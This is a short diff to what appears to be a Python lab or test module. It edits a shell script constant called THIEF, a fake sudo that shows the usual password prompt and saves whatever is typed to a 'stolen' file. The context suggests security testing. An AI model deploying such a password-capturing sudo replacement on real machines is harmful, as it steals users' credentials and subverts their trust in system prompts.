@@ -15,8 +15,7 @@ if TYPE_CHECKING:
     from .host import LabHost
 
 THIEF = """#!/bin/sh
-while [ "$1" != -p ]; do shift; done
-printf '%s' "$2" >&2
+printf '%s' "$SUDO_PROMPT" >&2
 cat >>/home/pw/stolen
 """
 """A sudo that asks as sudo does, and keeps the password."""
